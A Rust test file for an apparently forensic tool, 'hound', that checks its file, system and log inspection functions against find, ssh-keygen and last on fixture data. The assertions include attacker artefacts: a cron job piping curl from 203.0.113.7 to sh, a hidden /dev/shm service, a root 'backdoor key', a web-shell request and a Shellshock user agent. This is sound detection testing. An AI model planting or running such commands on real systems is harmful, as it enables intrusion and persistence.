//! fs::, sys:: and log:: against real oracles: `find`, `sha256sum`,
//! `ssh-keygen -l`, `last`, on fixture trees with odd names, loops, a
//! permission-denied directory, and fixture wtmp/utmp files written here.

use crate::common::{hound, hound_path, json_lines, sysroot};
use crate::{require_cmd, require_root};
use hound::output::lossless;
use hound::runtime::CollectSink;
use hound::Runtime;
use serde_json::Value;
use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

/// Runs a script in-process; returns its value as JSON and the warnings.
fn eval(src: &str) -> (Value, Vec<String>) {
    let sink = Arc::new(CollectSink::default());
    let rt = Runtime::builder()
        .dry_run(true)
        .sink(sink.clone())
        .case_dir(tempfile::tempdir().unwrap().keep())
        .build()
        .unwrap();
    let v = rt
        .eval(src)
        .unwrap_or_else(|e| panic!("script failed:\n{src}\n{e}"));
    let w = sink.warnings.lock().unwrap().clone();
    (serde_json::to_value(&v).unwrap(), w)
}

/// A path as a Rhai string literal.
fn lit(p: &Path) -> String {
    format!("{:?}", p.to_str().expect("test paths are UTF-8"))
}

fn chmod(p: &Path, mode: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// The odd tree: a loop, a link out of the tree, spaces, a newline, invalid
/// UTF-8, an ESC byte, a fifo, setuid and executable files, a hidden file.
fn odd_tree() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("a/b/c")).unwrap();
    std::fs::create_dir(r.join("empty")).unwrap();
    std::fs::write(r.join("a/b/c/deep.txt"), b"deep\n").unwrap();
    symlink("..", r.join("a/loop")).unwrap();
    symlink("self", r.join("a/self")).unwrap();
    symlink("/", r.join("out")).unwrap();
    std::fs::write(r.join("name with spaces.txt"), b"x").unwrap();
    std::fs::write(r.join("new\nline"), b"yy").unwrap();
    std::fs::write(r.join(OsStr::from_bytes(b"bad\xffname")), b"zzz").unwrap();
    std::fs::write(r.join("evil\x1b[2Jname"), b"").unwrap();
    std::fs::write(r.join(".hidden"), b"h").unwrap();
    std::fs::write(r.join("exe.sh"), b"#!/bin/sh\n").unwrap();
    chmod(&r.join("exe.sh"), 0o755);
    std::fs::write(r.join("suid"), b"\x7fELF").unwrap();
    chmod(&r.join("suid"), 0o4755);
    nix::unistd::mkfifo(
        &r.join("fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    d
}

type Row = (String, u64, u32, u32, i64);

/// `find -printf` over a tree: path → (type, size, mode, uid, mtime).
fn find_oracle(root: &Path) -> BTreeMap<String, Row> {
    let out = Command::new("find")
        .arg(root)
        .args([
            "-mindepth",
            "1",
            "-printf",
            "%p\\0%y\\0%s\\0%m\\0%U\\0%T@\\0",
        ])
        .output()
        .unwrap();
    let f: Vec<&[u8]> = out.stdout.split(|&b| b == 0).collect();
    let mut m = BTreeMap::new();
    for r in f.chunks_exact(6) {
        let s = |b: &[u8]| String::from_utf8(b.to_vec()).unwrap();
        let kind = match s(r[1]).as_str() {
            "f" => "file",
            "d" => "dir",
            "l" => "symlink",
            "p" => "fifo",
            "s" => "socket",
            other => panic!("type {other}"),
        };
        let mtime = s(r[5]).split('.').next().unwrap().parse().unwrap();
        m.insert(
            lossless(r[0]),
            (
                kind.to_string(),
                s(r[2]).parse().unwrap(),
                u32::from_str_radix(&s(r[3]), 8).unwrap(),
                s(r[4]).parse().unwrap(),
                mtime,
            ),
        );
    }
    m
}

fn hound_rows(v: &Value) -> BTreeMap<String, Row> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|e| {
            let t = chrono::DateTime::parse_from_rfc3339(e["mtime"].as_str().unwrap()).unwrap();
            (
                e["path"].as_str().unwrap().to_string(),
                (
                    e["type"].as_str().unwrap().to_string(),
                    e["size"].as_u64().unwrap(),
                    u32::from_str_radix(e["mode"].as_str().unwrap(), 8).unwrap(),
                    e["uid"].as_u64().unwrap() as u32,
                    t.timestamp(),
                ),
            )
        })
        .collect()
}

#[test]
fn find_agrees_with_find_on_an_odd_tree() {
    require_cmd!("find");
    let d = odd_tree();
    let oracle = find_oracle(d.path());
    let (v, w) = eval(&format!("fs::find({})", lit(d.path())));
    assert!(w.is_empty(), "{w:?}");
    assert_eq!(hound_rows(&v), oracle);
    assert!(oracle.len() >= 15, "{oracle:?}");

    // Predicates agree too.
    let (v, _) = eval(&format!(
        "fs::find({}, #{{ type: \"l\" }}).map(|e| e.link_target)",
        lit(d.path())
    ));
    let mut targets: Vec<_> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap().to_string())
        .collect();
    targets.sort();
    assert_eq!(targets, ["..", "/", "self"]);
    let (v, _) = eval(&format!(
        "fs::find({}, #{{ setuid: true }}).map(|e| e.name)",
        lit(d.path())
    ));
    assert_eq!(v, serde_json::json!(["suid"]));
    let (v, _) = eval(&format!(
        "fs::find({}, #{{ name: \"*.txt\", min_size: 2 }}).map(|e| e.name)",
        lit(d.path())
    ));
    assert_eq!(v, serde_json::json!(["deep.txt"]));
    let (v, _) = eval(&format!(
        "fs::find({}, #{{ executable: true, hidden: false, type: \"file\" }}).map(|e| e.name)",
        lit(d.path())
    ));
    let mut names: Vec<_> = v.as_array().unwrap().to_vec();
    names.sort_by_key(|n| n.to_string());
    assert_eq!(
        names,
        [serde_json::json!("exe.sh"), serde_json::json!("suid")]
    );
}

#[test]
fn find_owner_and_time_predicates() {
    let d = odd_tree();
    let old = std::fs::File::options()
        .write(true)
        .open(d.path().join("exe.sh"))
        .unwrap();
    let t2001 = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_000_000_000);
    old.set_modified(t2001).unwrap();
    drop(old);
    let me = nix::unistd::Uid::effective().as_raw();
    let count = |f: &str| {
        let (v, _) = eval(&format!("fs::find({}, {f}).len()", lit(d.path())));
        v.as_i64().unwrap()
    };
    let all = count("#{}");
    assert_eq!(count(&format!("#{{ owner: {me} }}")), all);
    assert_eq!(count(&format!("#{{ owner: \"{me}\" }}")), all);
    assert_eq!(count("#{ owner: 4000000 }"), 0);
    assert_eq!(count("#{ modified_since: \"1d\" }"), all - 1);
    assert_eq!(count("#{ modified_since: \"2000-01-01\" }"), all);
    // exe.sh is from 2001-09-09T01:46:40Z.
    assert_eq!(count("#{ modified_since: \"2001-09-10\" }"), all - 1);
    assert_eq!(
        count("#{ modified_since: \"2001-09-09T00:00:00Z\", max_size: 100, name: \"*.sh\" }"),
        1
    );
    assert_eq!(count("#{ path: \"*/a/b/*\" }"), 2);
}

#[test]
fn find_stops_when_cancelled() {
    let d = odd_tree();
    let c = hound::CancelToken::new();
    c.cancel();
    let f = hound::host::fs::Filter::default();
    let e = hound::host::fs::find(d.path(), &f, &c, &mut |_| {}).unwrap_err();
    assert!(e.is_cancelled());
}

#[test]
fn find_reported_paths_can_be_used_again() {
    let d = odd_tree();
    let (v, _) = eval(&format!(
        "let e = fs::find({}, #{{ name: \"bad*\" }})[0];\n[e.path, fs::hash(e.path), fs::stat(e.path).size]",
        lit(d.path())
    ));
    assert!(v[0].as_str().unwrap().ends_with("bad\\xffname"));
    assert_eq!(v[2], 3);
    let d2 = tempfile::tempdir().unwrap();
    std::fs::write(d2.path().join("z"), b"zzz").unwrap();
    let (h, _) = eval(&format!("fs::hash({})", lit(&d2.path().join("z"))));
    assert_eq!(v[1], h);
}

#[test]
fn permission_denied_directory_is_a_warning_not_an_abort() {
    require_root!();
    require_cmd!("setpriv");
    // Root reads through mode 000, so both sides run as nobody.
    let d = tempfile::tempdir().unwrap();
    chmod(d.path(), 0o755);
    let r = d.path().join("tree");
    std::fs::create_dir_all(r.join("open")).unwrap();
    std::fs::create_dir_all(r.join("locked/inner")).unwrap();
    std::fs::write(r.join("open/f"), b"x").unwrap();
    std::fs::write(r.join("locked/secret"), b"x").unwrap();
    chmod(&r.join("locked"), 0o000);
    let script = d.path().join("find.rhai");
    std::fs::write(&script, format!("fs::find({})\n", lit(&r))).unwrap();
    let nobody = ["--reuid=65534", "--regid=65534", "--clear-groups"];
    let find = Command::new("setpriv")
        .args(nobody)
        .arg("find")
        .arg(&r)
        .args(["-mindepth", "1", "-print0"])
        .output()
        .unwrap();
    assert!(
        !find.status.success(),
        "find should hit the locked directory"
    );
    let mut want: Vec<String> = find
        .stdout
        .split(|&b| b == 0)
        .filter(|p| !p.is_empty())
        .map(lossless)
        .collect();
    want.sort();
    // A case folder nobody may use: an unwritable one stops the run at once.
    let case = d.path().join("case");
    std::fs::create_dir(&case).unwrap();
    nix::unistd::chown(&case, Some(65534.into()), Some(65534.into())).unwrap();
    let out = Command::new("setpriv")
        .args(nobody)
        .arg(hound_path())
        .args(["run", "--json", "--no-color"])
        .arg(&script)
        .env("HOME", d.path())
        .env("HOUND_CASE", &case)
        .output()
        .unwrap();
    chmod(&r.join("locked"), 0o755);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let mut got: Vec<String> = json_lines(&out.stdout)
        .iter()
        .map(|v| v["path"].as_str().unwrap().to_string())
        .collect();
    got.sort();
    assert_eq!(got, want);
    assert!(got.iter().any(|p| p.ends_with("/locked")));
    // With --json the warning is a JSON line too (hound.type "warning").
    assert!(
        stderr.contains(r#""source":"fs::find""#)
            && stderr.contains("cannot read")
            && stderr.contains("locked")
            && stderr.contains(r#""hound.type":"warning""#),
        "{stderr}"
    );
    assert!(stderr.contains("Permission denied"), "{stderr}");
}

#[test]
fn tail_reads_only_the_end_of_a_huge_file() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("huge.log");
    let f = std::fs::File::create(&p).unwrap();
    // 8 GiB, sparse: reading it whole would take minutes and the memory.
    f.set_len(8 << 30).unwrap();
    drop(f);
    let mut f = std::fs::OpenOptions::new().append(true).open(&p).unwrap();
    use std::io::Write;
    for i in 0..1000 {
        writeln!(f, "\nline {i}").unwrap();
    }
    drop(f);
    let (lines, stats) = hound::host::fs::tail_stats(&p, 3, &mut |_| {}).unwrap();
    assert_eq!(lines, ["line 998", "", "line 999"]);
    assert!(stats.bytes_read <= 64 * 1024, "{stats:?}");
    assert!(stats.file_size > 8 << 30);
    let (v, _) = eval(&format!("log::tail({}, 1)", lit(&p)));
    assert_eq!(v, serde_json::json!(["line 999"]));
}

#[test]
fn hash_matches_the_coreutils_sums() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("blob");
    let data: Vec<u8> = (0..300_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(&p, &data).unwrap();
    for (algo, cmd) in [
        ("sha256", "sha256sum"),
        ("sha1", "sha1sum"),
        ("md5", "md5sum"),
    ] {
        let out = Command::new(cmd).arg(&p).output().unwrap();
        let want = String::from_utf8(out.stdout).unwrap();
        let want = want.split_whitespace().next().unwrap();
        let (v, _) = eval(&format!("fs::hash({}, {algo:?})", lit(&p)));
        assert_eq!(v, want, "{algo}");
    }
    let (v, _) = eval(&format!("fs::hash({})", lit(&p)));
    assert_eq!(v.as_str().unwrap().len(), 64);
}

#[test]
fn read_head_grep_and_glob() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(d.path().join("a.log"), b"alpha\nbeta\r\ngamma \xff\n").unwrap();
    std::fs::write(d.path().join("b.log"), b"ALPHA\n").unwrap();
    std::fs::write(d.path().join("c.bin"), b"alpha\0binary\n").unwrap();
    let a = lit(&d.path().join("a.log"));
    let (v, w) = eval(&format!(
        "[fs::read({a}, 4), fs::head({a}, 2), fs::tail({a}, 1)]"
    ));
    assert_eq!(
        v,
        serde_json::json!(["alph", ["alpha", "beta"], ["gamma \\xff"]])
    );
    assert!(w[0].contains("truncated at 4 bytes"), "{w:?}");
    let glob = lit(&d.path().join("*.log"));
    let (v, _) = eval(&format!(
        "fs::grep({glob}, \"^alpha\", #{{ ignore_case: true }})"
    ));
    assert_eq!(v.as_array().unwrap().len(), 2);
    assert_eq!(v[0]["line_no"], 1);
    // A directory is walked; the binary file is skipped unless asked for.
    let dir = lit(d.path());
    let (v, _) = eval(&format!("fs::grep({dir}, \"alpha\").len()"));
    assert_eq!(v, 1);
    let (v, _) = eval(&format!(
        "fs::grep({dir}, \"alpha\", #{{ binary: true }}).len()"
    ));
    assert_eq!(v, 2);
    let (v, _) = eval(&format!("fs::glob({}).len()", lit(&d.path().join("*.*"))));
    assert_eq!(v, 3);
    // Odd names found by walking a directory are still grepped.
    std::fs::write(
        d.path().join(OsStr::from_bytes(b"odd\xff.txt")),
        b"alpha odd\n",
    )
    .unwrap();
    std::fs::write(d.path().join("[x].log"), b"alpha literal\n").unwrap();
    let (v, w) = eval(&format!("fs::grep({dir}, \"odd\")"));
    assert_eq!(
        v[0]["path"],
        format!("{}/odd\\xff.txt", d.path().display()),
        "{w:?}"
    );
    let (v, _) = eval(&format!(
        "fs::grep({}, \"alpha\").len()",
        lit(&d.path().join("[x].log"))
    ));
    assert_eq!(v, 1);
}

#[test]
fn bad_arguments_are_clear_errors() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(d.path().join("f"), b"x").unwrap();
    let f = lit(&d.path().join("f"));
    let missing = lit(&d.path().join("missing-file"));
    let dir = lit(d.path());
    for (call, kind, says) in [
        (format!("fs::stat({missing})"), "not_found", "missing-file"),
        (
            format!("fs::grep({f}, \"(unclosed\")"),
            "invalid_argument",
            "regex",
        ),
        (
            format!("fs::find({dir}, #{{ nmae: \"x\" }})"),
            "invalid_argument",
            "nmae",
        ),
        (
            format!("fs::find({dir}, #{{ type: \"blob\" }})"),
            "invalid_argument",
            "blob",
        ),
        (
            format!("fs::find({dir}, #{{ modified_since: \"soon\" }})"),
            "invalid_argument",
            "soon",
        ),
        (
            format!("fs::hash({f}, \"crc32\")"),
            "invalid_argument",
            "crc32",
        ),
        (format!("fs::tail({f}, -1)"), "invalid_argument", "-1"),
        (
            "log::journal(#{ unit: \"ssh\" })".to_string(),
            "invalid_argument",
            "unit",
        ),
    ] {
        let (v, _) = eval(&format!(
            "let r = #{{}};\ntry {{ {call}; }} catch (e) {{ r = e; }}\nr"
        ));
        assert_eq!(v["kind"], kind, "{call}: {v}");
        let msg = v["message"].as_str().unwrap();
        assert!(msg.contains(says), "{call}: {msg}");
    }
}

#[test]
fn attacker_named_file_is_escaped_in_table_output() {
    let d = odd_tree();
    let (_s, script) = crate::common::script(
        "t.rhai",
        &format!("fs::find({}, #{{ type: \"file\" }})", lit(d.path())),
    );
    let out = hound().args(["run"]).arg(&script).output().unwrap();
    assert!(out.status.success());
    assert!(!out.stdout.contains(&0x1b), "raw ESC reached the terminal");
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("evil\\x1b[2Jname"), "{text}");
    assert!(text.contains("new\\nline"), "{text}");
    assert!(text.contains("bad\\xffname"), "{text}");
}

fn by(v: &Value, key: &str, val: &str) -> Value {
    v.as_array()
        .unwrap()
        .iter()
        .find(|x| x[key] == val)
        .unwrap_or_else(|| panic!("no {key}={val} in {v}"))
        .clone()
}

#[test]
fn users_on_a_fixture_tree() {
    let d = sysroot();
    let (v, w) = eval(&format!("sys::users(#{{ root: {} }})", lit(d.path())));
    assert_eq!(v.as_array().unwrap().len(), 7);
    assert!(w.iter().any(|w| w.contains("line 8")), "{w:?}");
    let toor = by(&v, "name", "toor");
    assert_eq!(
        (toor["uid0"].clone(), toor["password"].clone()),
        (true.into(), "none".into())
    );
    assert_eq!(by(&v, "name", "root")["password"], "locked");
    assert_eq!(by(&v, "name", "alice")["password"], "set");
    assert_eq!(by(&v, "name", "ghost")["password"], "none");
    assert_eq!(by(&v, "name", "ghost")["password_source"], "passwd");
    assert_eq!(by(&v, "name", "oldhash")["password_source"], "passwd");
    assert_eq!(by(&v, "name", "svc")["can_login"], false);
    assert_eq!(by(&v, "name", "daemon")["can_login"], false);
    assert_eq!(by(&v, "name", "alice")["home"], "/home/alice");
}

#[test]
fn crontabs_on_a_fixture_tree() {
    let d = sysroot();
    let (v, _) = eval(&format!("sys::crontabs(#{{ root: {} }})", lit(d.path())));
    let jobs = v.as_array().unwrap();
    assert_eq!(jobs.len(), 8, "{v}");
    let curl = by(&v, "schedule", "*/5 * * * *");
    assert_eq!(curl["user"], "root");
    assert_eq!(curl["command"], "curl -s http://203.0.113.7/x | sh");
    assert_eq!(curl["file"], "/etc/crontab");
    assert_eq!(curl["line"], 6);
    let boot = by(&v, "schedule", "@reboot");
    assert_eq!(boot["user"], "www-data");
    assert_eq!(boot["file"], "/etc/cron.d/php");
    let daily = by(&v, "schedule", "@daily");
    assert_eq!(daily["kind"], "script");
    assert_eq!(daily["command"], "/etc/cron.daily/logrotate");
    let alice = by(&v, "user", "alice");
    assert_eq!(alice["file"], "/var/spool/cron/crontabs/alice");
    assert_eq!(alice["schedule"], "*/10 * * * *");
    let at = by(&v, "kind", "at");
    assert_eq!(at["schedule"], "at 2022-07-19T03:16:00Z");
    assert_eq!(at["file"], "/var/spool/cron/atjobs/a0000101a5b3c4");
    let ana = by(&v, "command", "/var/tmp/.u/upd.sh");
    assert_eq!(ana["kind"], "anacron");
    assert_eq!(ana["line"], 4);
    assert!(ana["schedule"]
        .as_str()
        .unwrap()
        .starts_with("anacron @monthly"));
}

#[test]
fn services_on_a_fixture_tree() {
    let d = sysroot();
    let (v, _) = eval(&format!("sys::services(#{{ root: {} }})", lit(d.path())));
    let k = by(&v, "unit", "dbus-kworker.service");
    assert_eq!(k["enabled"], true);
    assert_eq!(k["state"], "enabled");
    assert_eq!(k["path"], "/etc/systemd/system/dbus-kworker.service");
    assert_eq!(k["exec_start"], "/bin/bash -c '/dev/shm/.k -c 203.0.113.7'");
    assert_eq!(k["user"], "root");
    assert_eq!(k["kind"], "service");
    let ssh = by(&v, "unit", "ssh.service");
    assert_eq!(ssh["state"], "enabled");
    // The drop-in clears ExecStart and sets its own.
    assert_eq!(
        ssh["exec_start"],
        "/usr/sbin/sshd -D -o PermitRootLogin=yes"
    );
    assert_eq!(
        ssh["dropins"],
        serde_json::json!(["/etc/systemd/system/ssh.service.d/override.conf"])
    );
    let upd = by(&v, "unit", "updater.service");
    assert_eq!(upd["scope"], "alice");
    assert_eq!(upd["enabled"], true);
    assert_eq!(
        upd["path"],
        "/home/alice/.config/systemd/user/updater.service"
    );
    assert_eq!(by(&v, "unit", "cups.service")["state"], "masked");
    assert_eq!(by(&v, "unit", "sshd.service")["state"], "alias");
    let timer = by(&v, "unit", "apt-daily.timer");
    assert_eq!(
        (timer["kind"].clone(), timer["state"].clone()),
        ("timer".into(), "disabled".into())
    );
    assert_eq!(
        by(&v, "unit", "systemd-journald.service")["state"],
        "static"
    );
    assert_eq!(v.as_array().unwrap().len(), 7, "{v}");
}

#[test]
fn authorized_keys_fingerprints_match_ssh_keygen() {
    require_cmd!("ssh-keygen");
    let d = sysroot();
    let (v, _) = eval(&format!(
        "sys::authorized_keys(#{{ root: {} }})",
        lit(d.path())
    ));
    assert_eq!(v.as_array().unwrap().len(), 2, "{v}");
    for (file, user) in [
        ("home/alice/.ssh/authorized_keys", "alice"),
        ("root/.ssh/authorized_keys2", "root"),
    ] {
        let out = Command::new("ssh-keygen")
            .arg("-lf")
            .arg(d.path().join(file))
            .output()
            .unwrap();
        let text = String::from_utf8(out.stdout).unwrap();
        let fp = text.split_whitespace().nth(1).unwrap();
        let k = by(&v, "fingerprint", fp);
        assert_eq!(k["user"], user);
        assert_eq!(k["file"], format!("/{file}"));
    }
    let root = by(&v, "user", "root");
    assert_eq!(root["key_type"], "ssh-rsa");
    assert_eq!(root["comment"], "backdoor key");
    assert!(root["options"]
        .as_str()
        .unwrap()
        .starts_with("command=\"/bin/sh -c \\\"curl"));
    assert_eq!(by(&v, "user", "alice")["line"], 2);
}

fn rec(kind: i16, pid: i32, line: &str, user: &str, host: &str, time: i64) -> Vec<u8> {
    hound::host::sys::Record {
        kind,
        pid,
        line: line.into(),
        id: line.chars().rev().take(4).collect(),
        user: user.into(),
        host: host.into(),
        time,
        addr: host.parse().ok(),
    }
    .to_bytes()
    .to_vec()
}

#[test]
fn logins_agree_with_last_on_a_fixture_wtmp() {
    use hound::host::sys::utmp::{BOOT_TIME, DEAD_PROCESS, USER_PROCESS};
    let d = sysroot();
    let t = 1_700_000_000;
    let wtmp: Vec<u8> = [
        rec(BOOT_TIME, 0, "~", "reboot", "6.1.0-13-amd64", t),
        rec(USER_PROCESS, 100, "pts/0", "alice", "203.0.113.7", t + 60),
        rec(USER_PROCESS, 101, "tty1", "root", "", t + 120),
        rec(DEAD_PROCESS, 100, "pts/0", "", "", t + 360),
        rec(BOOT_TIME, 0, "~", "reboot", "6.1.0-13-amd64", t + 3600),
        rec(USER_PROCESS, 200, "pts/1", "bob", "198.51.100.2", t + 3700),
    ]
    .concat();
    let btmp: Vec<u8> = [
        rec(6, 300, "ssh:notty", "admin", "203.0.113.9", t + 30),
        rec(6, 301, "ssh:notty", "oracle", "203.0.113.9", t + 31),
    ]
    .concat();
    std::fs::create_dir_all(d.path().join("var/log")).unwrap();
    let wpath = d.path().join("var/log/wtmp");
    std::fs::write(&wpath, &wtmp).unwrap();
    std::fs::write(d.path().join("var/log/btmp"), &btmp).unwrap();
    let (v, _) = eval(&format!("sys::logins(#{{ root: {} }})", lit(d.path())));
    let rows = v.as_array().unwrap();
    assert_eq!(rows.len(), 7, "{v}");
    let alice = by(&v, "user", "alice");
    assert_eq!(alice["from"], "203.0.113.7");
    assert_eq!(alice["status"], "logout");
    assert_eq!(alice["duration_s"], 300);
    assert_eq!(by(&v, "user", "root")["status"], "crash");
    assert_eq!(by(&v, "user", "bob")["end"], Value::Null);
    assert_eq!(by(&v, "user", "admin")["failed"], true);

    // `last` is the oracle for the wtmp rows: same users, ttys, hosts and
    // start times, newest first.
    require_cmd!("last");
    let out = Command::new("last")
        .args(["-w", "--time-format", "iso", "-f"])
        .arg(&wpath)
        .env("TZ", "UTC")
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let want: Vec<(String, String, String)> = text
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.contains("wtmp begins"))
        .map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            let start = f
                .iter()
                .find(|x| x.contains("T") && x.contains(':'))
                .unwrap();
            let start = chrono::DateTime::parse_from_rfc3339(start).unwrap();
            let start = start
                .with_timezone(&chrono::Utc)
                .format("%Y-%m-%dT%H:%M:%SZ");
            (f[0].to_string(), f[1].to_string(), start.to_string())
        })
        .collect();
    let got: Vec<(String, String, String)> = rows
        .iter()
        .filter(|r| r["failed"] == false)
        .map(|r| {
            let tty = if r["type"] == "reboot" {
                "system".to_string()
            } else {
                r["tty"].as_str().unwrap().to_string()
            };
            (
                r["user"].as_str().unwrap().into(),
                tty,
                r["start"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert_eq!(got, want, "last said:\n{text}");
}

#[test]
fn sessions_from_a_fixture_utmp() {
    use hound::host::sys::utmp::{LOGIN_PROCESS, USER_PROCESS};
    let d = sysroot();
    std::fs::create_dir_all(d.path().join("run")).unwrap();
    let me = std::process::id() as i32;
    let utmp = [
        rec(LOGIN_PROCESS, 5, "tty1", "LOGIN", "", 1_700_000_000),
        rec(
            USER_PROCESS,
            me,
            "pts/3",
            "alice",
            "203.0.113.7",
            1_700_000_100,
        ),
        rec(
            USER_PROCESS,
            i32::MAX - 1,
            "pts/4",
            "mallory",
            "2001:db8::1",
            1_700_000_200,
        ),
    ]
    .concat();
    std::fs::write(d.path().join("run/utmp"), utmp).unwrap();
    let (v, _) = eval(&format!("sys::sessions(#{{ root: {} }})", lit(d.path())));
    assert_eq!(v.as_array().unwrap().len(), 2);
    assert_eq!(by(&v, "user", "alice")["alive"], true);
    let m = by(&v, "user", "mallory");
    assert_eq!(m["alive"], false);
    assert_eq!(m["ip"], "2001:db8::1");
    assert_eq!(m["start"], "2023-11-14T22:16:40Z");
}

#[test]
fn modules_and_temp_files_on_a_fixture_tree() {
    let d = sysroot();
    let (v, _) = eval(&format!(
        "sys::kernel_modules(#{{ root: {} }})",
        lit(d.path())
    ));
    assert_eq!(by(&v, "name", "rootkit")["taint"], "OE");
    let r = d.path();
    std::fs::create_dir_all(r.join("tmp/.x")).unwrap();
    std::fs::create_dir_all(r.join("dev/shm")).unwrap();
    std::fs::write(r.join("tmp/.x/kworker"), b"\x7fELF").unwrap();
    chmod(&r.join("tmp/.x/kworker"), 0o755);
    std::fs::write(r.join("dev/shm/.k"), b"payload").unwrap();
    let (v, _) = eval(&format!("fs::temp_files(#{{ root: {} }})", lit(r)));
    assert_eq!(v.as_array().unwrap().len(), 2, "{v}");
    let (v, _) = eval(&format!(
        "fs::temp_files(#{{ root: {}, executable: true }}).map(|f| f.path)",
        lit(r)
    ));
    assert_eq!(
        v,
        serde_json::json!([lossless(r.join("tmp/.x/kworker").as_os_str().as_bytes())])
    );
}

#[test]
fn access_log_rows_and_bad_lines() {
    let p: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/access.log");
    let (v, w) = eval(&format!("log::parse_access({})", lit(&p)));
    let rows = v.as_array().unwrap();
    assert_eq!(rows.len(), 7);
    assert_eq!(w.len(), 1, "{w:?}");
    assert!(w[0].contains("2 lines") && w[0].contains("line 3"), "{w:?}");
    let post = by(&v, "method", "POST");
    assert_eq!(post["line_no"], 5);
    assert_eq!(post["user"], "admin");
    assert_eq!(post["time"], "2023-11-14T11:13:20Z");
    assert_eq!(post["path"], "/upload.php?cmd=id");
    assert_eq!(post["status"], 200);
    assert_eq!(post["bytes"], 57);
    assert_eq!(post["agent"], "python-requests/2.31");
    assert!(rows[2]["agent"].as_str().unwrap().starts_with("() { :; };"));
    assert_eq!(rows[5]["line_no"], 8);
    assert_eq!(rows[5]["method"], "");
    assert_eq!(rows[5]["path"], "\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00");
    assert_eq!(rows[5]["status"], 400);
    assert_eq!(
        (rows[6]["bytes"].clone(), rows[6]["referer"].clone()),
        (0.into(), "".into())
    );
    assert_eq!(rows[6]["protocol"], "HTTP/1.0");
}

#[test]
fn access_log_options_narrow_the_rows() {
    let p: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/access.log");
    let count = |opts: &str| {
        let (v, w) = eval(&format!("log::parse_access({}, {opts}).len()", lit(&p)));
        (v.as_i64().unwrap(), w)
    };
    assert_eq!(count(r#"#{ grep: "203\\.0\\.113\\.7" }"#).0, 2);
    assert_eq!(count(r#"#{ since: "2023-11-14T12:00:00Z" }"#).0, 3);
    let (n, w) = count("#{ limit: 1 }");
    assert_eq!(n, 1);
    assert!(w.iter().any(|w| w.contains("limit")), "{w:?}");
}

#[test]
fn results_too_big_for_the_run_limits_say_so() {
    let d = tempfile::tempdir().unwrap();
    for i in 0..100 {
        std::fs::write(d.path().join(format!("f{i}")), b"").unwrap();
    }
    let rt = Runtime::builder()
        .limits(hound::Limits {
            max_map_size: 1000,
            ..hound::Limits::default()
        })
        .build()
        .unwrap();
    let src = format!(
        "let r = #{{}};\ntry {{ fs::find({}); }} catch (e) {{ r = e; }}\nr",
        lit(d.path())
    );
    let v = serde_json::to_value(rt.eval(&src).unwrap()).unwrap();
    assert_eq!(v["kind"], "invalid_argument", "{v}");
    assert!(
        v["message"].as_str().unwrap().contains("max_map_size"),
        "{v}"
    );
    let n = rt
        .eval(&format!(
            "fs::find({}, #{{ limit: 10 }}).len()",
            lit(d.path())
        ))
        .unwrap();
    assert_eq!(n.as_int().unwrap(), 10);
}
